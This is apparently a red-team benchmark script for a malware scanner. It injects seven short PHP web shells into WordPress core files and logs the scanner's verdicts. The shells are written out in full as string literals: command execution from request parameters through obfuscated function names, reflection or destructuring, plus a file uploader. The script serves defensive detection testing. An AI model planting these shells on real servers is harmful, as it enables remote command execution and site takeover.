// S26R-23: shells that are malicious alone, injected at top level in the middle of WordPress's own
// files (16 KB to 332 KB), and the verdicts there. Needs the WordPress tree of the CI cache.
// node bench/redteam/rt26-padded.mjs [WORDPRESS_WP_INCLUDES_DIR]
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createScanner } from '../../packages/host/dist/scan/scanner.js';

const dir = process.argv[2] ?? '/var/cache/mamori-ci/wordpress/usr/share/wordpress/wp-includes';
const hosts = ['class-wp-hook.php', 'post-template.php', 'class-wp-query.php', 'formatting.php'];
// (each malicious alone; written for the red team)
const shells = [
  ['static property call', "class Reg { public static $fn = 'system'; }\n(Reg::$fn)($_GET['c']);\n"],
  ['minimal uploader', "echo '<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"x\"><input type=\"submit\"></form>';\nif (@copy($_FILES['x']['tmp_name'], $_FILES['x']['name'])) { echo 'ok'; }\n"],
  ['sprintf name', "$f = sprintf('%s%s%s', 'sy', 'st', 'em');\n$f($_REQUEST['c']);\n"],
  ['foreach of disabled functions', "$c = $_POST['c'];\nforeach (array('system', 'passthru', 'shell_exec', 'exec') as $f) { if (function_exists($f)) { echo $f($c); break; } }\n"],
  ['ReflectionFunction of a variable', "$n = 'sys' . 'tem';\n$r = new ReflectionFunction($n);\n$r->invokeArgs(array($_POST['c']));\n"],
  ['destructured call', "['f' => $f, 'a' => $a] = $_POST;\necho $f($a);\n"],
  ['Drupal request to passthru', "function mymod_init() { $c = \\Drupal::request()->query->get('dbg'); if ($c) { print passthru($c); } }\n"],
];
const scanner = createScanner({});
for (const h of hosts) {
  const host = readFileSync(join(dir, h), 'latin1');
  const at = host.indexOf('\n}\n', host.length >> 1) + 3;
  for (const [what, shell] of shells) {
    const file = host.slice(0, at) + shell + host.slice(at);
    const r = scanner.scanBuffer(Buffer.from(file, 'latin1'), `/www/wp-includes/${h}`);
    console.log(`${h} (${(host.length / 1024).toFixed(0)} KB)\t${what}\t${r.verdict} ${r.score}\t${r.findings.map((f) => `${f.rule}:${f.score}`).join(' ')}`);
  }
}
